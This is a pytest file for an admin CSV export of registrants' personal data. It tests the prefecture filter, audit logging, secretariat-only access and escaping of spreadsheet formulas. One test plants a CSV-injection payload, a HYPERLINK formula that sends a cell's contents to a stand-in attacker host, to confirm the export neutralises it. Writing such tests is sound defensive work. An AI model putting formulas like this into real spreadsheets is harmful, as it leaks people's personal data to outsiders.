"""個人情報抽出: a CSV Excel opens (UTF-8 with BOM), filtered, audited, secretariat only."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select

from app.audit import AuditEvent
from features.accounts.models import Individual, Role
from tests.conftest import csrf_headers
from tests.features.accounts.helpers import log_in, make_user


async def test_export_is_a_bom_csv_with_the_filter_applied_and_audited(client, database):
    await make_user(database, "a@example.jp")
    await make_user(database, "b@example.jp")
    async with database.session() as db:
        rows = (await db.execute(select(Individual).order_by(Individual.id))).scalars().all()
        rows[1].prefecture = "大阪府"
    office = await make_user(database, "office@example.jp", Role.SECRETARIAT)
    await log_in(client, database, "office@example.jp")
    assert "個人情報抽出" in (await client.get("/admin/export")).text
    response = await client.post("/admin/export", data={"prefecture": "大阪府"}, headers=csrf_headers(client))
    assert response.status_code == 201
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert "filename*=UTF-8''" in response.headers["content-disposition"]
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0][:3] == ["登録コード", "氏名", "フリガナ"]
    assert len(table) == 2 and table[1][4] == "b@example.jp" and table[1][7] == "大阪府"
    async with database.session(write=False) as db:
        [event] = (await db.execute(select(AuditEvent).where(AuditEvent.action == "registrant_export"))).scalars().all()
    assert event.actor_user_id == office.id
    assert json.loads(event.detail) == {
        "kind": "",
        "prefecture": "大阪府",
        "jocv_only": False,
        "include_expired": False,
        "rows": 1,
    }


async def test_only_the_secretariat_exports(client, database):
    await make_user(database, "org@example.jp", Role.ORGANIZATION)
    await log_in(client, database, "org@example.jp")
    assert (await client.post("/admin/export", data={}, headers=csrf_headers(client))).status_code == 403


async def test_a_formula_in_a_name_comes_out_as_text(client, database):
    await make_user(database, "a@example.jp")
    payload = '=HYPERLINK("http://evil.example/?"&E2,"詳細")'
    async with database.session() as db:
        individual = (await db.execute(select(Individual))).scalar_one()
        individual.family_name, individual.given_name = payload, ""
        individual.address = "@SUM(1+1)"
        individual.phone = "+81-90-1234-5678"
    await make_user(database, "office@example.jp", Role.SECRETARIAT)
    await log_in(client, database, "office@example.jp")
    response = await client.post("/admin/export", data={}, headers=csrf_headers(client))
    [header, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row[1] == "'" + payload + " "
    assert row[8] == "'@SUM(1+1)" and row[5] == "'+81-90-1234-5678"
    assert row[4] == "a@example.jp"  # ordinary cells are untouched


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1"])
def test_every_formula_start_is_neutralized(cell):
    from app.exports import safe_cell

    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["山田 太郎", "1-2-3", "a=b", "", None, 42])
def test_ordinary_cells_are_unchanged(cell):
    from app.exports import safe_cell

    assert safe_cell(cell) == ("" if cell is None else str(cell))
